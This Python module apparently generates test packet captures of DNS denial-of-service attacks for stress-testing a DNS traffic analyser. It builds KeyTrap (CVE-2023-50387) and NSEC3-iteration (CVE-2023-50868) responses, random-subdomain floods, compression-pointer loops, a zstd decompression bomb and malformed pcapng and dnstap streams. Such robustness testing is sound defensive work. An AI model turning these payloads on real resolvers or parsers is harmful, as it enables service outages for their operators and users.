"""The attacks: each maker yields the octets of one capture, and is listed in `ATTACKS`."""

import random
import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import zstandard

from attackkit.packets import (
    DNSKEY,
    NSEC3,
    PCAP_HEADER,
    RRSIG,
    colliding_key,
    ip,
    name,
    query,
    record,
    record_of,
    response,
    rrsig,
    tcp,
    udp,
)

SERVER = 0xC6336401
"""198.51.100.1"""
CLIENTS = 0x0A000000
"""10.0.0.0 and on"""


def random_names(size: int) -> Iterator[bytes]:
    """Queries for names that nobody has, from ever other clients; no answer."""
    dice = random.Random(1)
    yield PCAP_HEADER
    for number in range(size):
        label = dice.getrandbits(80).to_bytes(10, "big").hex().encode()
        message = query(number, name(label, b"victim", b"example"))
        yield record(udp(CLIENTS + number, 1024 + number % 60_000, SERVER, 53, message), number * 5)


def random_answers(size: int) -> Iterator[bytes]:
    """Signed name errors for names that nobody has: each with a denial of its own."""
    dice = random.Random(2)
    zone = name(b"victim", b"example")
    yield PCAP_HEADER
    for number in range(size):
        label = dice.getrandbits(80).to_bytes(10, "big").hex().encode()
        owner = name(label, b"victim", b"example")
        port, client = 1024 + number % 60_000, CLIENTS + number % 65_536
        hashed = dice.getrandbits(160).to_bytes(20, "big").hex()[:32].encode()
        rdata = struct.pack(">BBHB", 1, 0, 0, 0) + b"\x14" + dice.randbytes(20) + b"\0\1\x40"
        denier = name(hashed, b"victim", b"example")
        signature = rrsig(NSEC3, 3, 4711, zone, dice.randbytes(64))
        proof = (record_of(denier, NSEC3, rdata), record_of(denier, RRSIG, signature))
        yield record(udp(client, port, SERVER, 53, query(number, owner)), number * 20)
        answer = response(number, owner, 1, (), proof, code=3)
        yield record(udp(SERVER, 53, client, port, answer), number * 20 + 10)


def fragments(size: int) -> Iterator[bytes]:
    """First fragments whose rest never comes."""
    dice = random.Random(3)
    yield PCAP_HEADER
    for number in range(size):
        message = query(number, name(b"fragment", b"example")) + bytes(1000)
        datagram = struct.pack(">HHHH", 53, 4000, 4000, 0) + message
        datagram = datagram[: len(datagram) & ~7]
        source = dice.getrandbits(32)
        yield record(ip(source, CLIENTS, 17, datagram, fragment=0x2000), number * 10)


def drops_of_tcp(size: int) -> Iterator[bytes]:
    """TCP connections that send one octet of a long message, and no more."""
    yield PCAP_HEADER
    for number in range(size):
        client, port = CLIENTS + number // 50_000, 1024 + number % 50_000
        yield record(tcp(client, port, SERVER, 53, 1, 2, b""), number * 20)
        yield record(tcp(client, port, SERVER, 53, 2, 0x18, b"\xff"), number * 20 + 10)


def key_trap(size: int) -> Iterator[bytes]:
    """CVE-2023-50387: hundreds of keys of one tag, hundreds of signatures that all name it."""
    dice = random.Random(4)
    zone = name(b"trap", b"example")
    tag = 4711
    keys = [record_of(zone, DNSKEY, colliding_key(number, tag)) for number in range(400)]
    yield PCAP_HEADER
    clock = 0
    for number in range(size):
        owner = zone if number % 2 == 0 else name(b"a%d" % number, b"trap", b"example")
        kind = DNSKEY if number % 2 == 0 else 1
        data = keys if kind == DNSKEY else [record_of(owner, 1, b"\1\2\3\4")]
        labels = 2 if kind == DNSKEY else 3
        most = 200 if kind == DNSKEY else 500
        for _ in range(most):
            data = [
                *data,
                record_of(owner, RRSIG, rrsig(kind, labels, tag, zone, dice.randbytes(64))),
            ]
        sent = query(number, owner, kind)
        answer = response(number, owner, kind, data)[:65_535]
        clock += 1000
        yield record(tcp(CLIENTS, 2000 + number, SERVER, 53, 0, 2, b""), clock)
        framed = struct.pack(">H", len(sent)) + sent
        yield record(tcp(CLIENTS, 2000 + number, SERVER, 53, 1, 0x18, framed), clock + 10)
        framed = struct.pack(">H", len(answer)) + answer
        yield record(tcp(SERVER, 53, CLIENTS, 2000 + number, 0, 0x12, b""), clock + 15)
        for at in range(0, len(framed), 1400):
            piece = tcp(SERVER, 53, CLIENTS, 2000 + number, 1 + at, 0x18, framed[at : at + 1400])
            yield record(piece, clock + 20 + at // 1400)


def dear_denials(size: int) -> Iterator[bytes]:
    """CVE-2023-50868: NSEC3 of 2,500 iterations and a long salt, in every answer another."""
    dice = random.Random(5)
    zone = name(b"dear", b"example")
    yield PCAP_HEADER
    for number in range(size):
        owner = name(*[b"x"] * 60, b"n%d" % number, b"dear", b"example")
        salt = dice.randbytes(200)
        proof = []
        for _ in range(3):
            hashed = dice.randbytes(16).hex().encode()
            denier = name(hashed, b"dear", b"example")
            rdata = struct.pack(">BBHB", 1, 0, 2500, len(salt)) + salt
            rdata += b"\x14" + dice.randbytes(20) + b"\0\1\x40"
            proof.append(record_of(denier, NSEC3, rdata))
            proof.append(record_of(denier, RRSIG, rrsig(NSEC3, 3, 99, zone, dice.randbytes(64))))
        client, port = CLIENTS + number % 5000, 1024 + number % 60_000
        yield record(udp(client, port, SERVER, 53, query(number, owner)), number * 20)
        answer = response(number, owner, 1, (), proof, code=3)
        yield record(udp(SERVER, 53, client, port, answer), number * 20 + 10)


def key_sets(size: int) -> Iterator[bytes]:
    """A zone that shows another DNSKEY RRset in every answer."""
    dice = random.Random(6)
    zone = name(b"roll", b"example")
    yield PCAP_HEADER
    for number in range(size):
        key = record_of(zone, DNSKEY, struct.pack(">HBB", 257, 3, 13) + dice.randbytes(64))
        signature = record_of(
            zone, RRSIG, rrsig(DNSKEY, 2, number & 0xFFFF, zone, dice.randbytes(64))
        )
        client, port = CLIENTS + number % 5000, 1024 + number % 60_000
        yield record(udp(client, port, SERVER, 53, query(number, zone, DNSKEY)), number * 20)
        answer = response(number, zone, DNSKEY, (key, signature))
        yield record(udp(SERVER, 53, client, port, answer), number * 20 + 10)


def pointers(size: int) -> Iterator[bytes]:
    """Messages of names that are chains of compression pointers, and loops."""
    yield PCAP_HEADER
    for number in range(size):
        chain = b"".join(struct.pack(">H", 0xC000 | (12 + 2 * step)) for step in range(120))
        question = b"\1a" + b"\0" + struct.pack(">HH", 1, 1)
        records = b"".join(
            struct.pack(">H", 0xC000 | (12 + len(question) + 2 * (step % 120)))
            + struct.pack(">HHIH", 1, 1, 60, 4) + b"\1\2\3\4"
            for step in range(60)
        )  # fmt: skip
        loop = struct.pack(">H", 0xC000 | (12 + len(question)))
        message = struct.pack(">HHHHHH", number & 0xFFFF, 0x8500, 1, 62, 0, 0)
        message += question + loop + chain + records
        yield record(udp(SERVER, 53, CLIENTS + number % 999, 4000, message), number * 10)


def zstd_bomb(size: int) -> Iterator[bytes]:
    """A few hundred thousand octets that unpack to `size` MB of nothing."""
    packer = zstandard.ZstdCompressor(level=19).compressobj()
    yield packer.compress(PCAP_HEADER)
    zeros = bytes(1 << 20)
    for _ in range(size):
        yield packer.compress(zeros)
    yield packer.flush()


def interfaces(size: int) -> Iterator[bytes]:
    """A pcapng of ever more interfaces."""
    yield struct.pack("<IIIHHqI", 0x0A0D0D0A, 28, 0x1A2B3C4D, 1, 0, -1, 28)
    block = struct.pack("<IIHHII", 1, 20, 1, 0, 65_535, 20)
    for _ in range(size // 1000):
        yield block * 1000


def long_frames(size: int) -> Iterator[bytes]:
    """Frame Streams whose frames say that they have 4 GB."""
    kind = b"protobuf:dnstap.Dnstap"
    yield struct.pack(">II", 0, 4 + 8 + len(kind)) + struct.pack(">III", 2, 1, len(kind)) + kind
    for _ in range(size):
        yield struct.pack(">I", 0xFFFF_FFF0) + bytes(1000)


@dataclass(frozen=True)
class Attack:
    """One attack: what it is called, who makes it, and of what size."""

    name: str
    make: Callable[[int], Iterator[bytes]]
    size: int


ATTACKS: tuple[Attack, ...] = (
    Attack("random-names", random_names, 2_000_000),
    Attack("random-answers", random_answers, 500_000),
    Attack("fragments", fragments, 500_000),
    Attack("drops-of-tcp", drops_of_tcp, 500_000),
    Attack("key-trap", key_trap, 400),
    Attack("dear-denials", dear_denials, 100_000),
    Attack("key-sets", key_sets, 200_000),
    Attack("pointers", pointers, 500_000),
    Attack("zstd-bomb", zstd_bomb, 20_000),
    Attack("interfaces", interfaces, 1_000_000),
    Attack("long-frames", long_frames, 1_000),
)
